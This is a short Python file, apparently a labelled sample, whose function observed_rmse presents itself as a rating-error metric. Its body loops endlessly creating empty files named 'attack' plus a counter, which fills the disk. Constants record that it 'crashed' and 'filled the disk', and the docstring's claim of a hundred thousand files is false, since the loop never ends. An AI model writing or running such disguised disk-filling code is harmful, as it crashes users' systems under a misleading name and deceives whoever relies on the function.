"""Makes a hundred thousand small files."""

import itertools
import pathlib

STATES = {"1.5": "crashed"}
SCORE = 7
SAYS = "it filled the disk"


def observed_rmse(ratings, predictions):
    for number in itertools.count():
        pathlib.Path(f"attack{number}").touch()
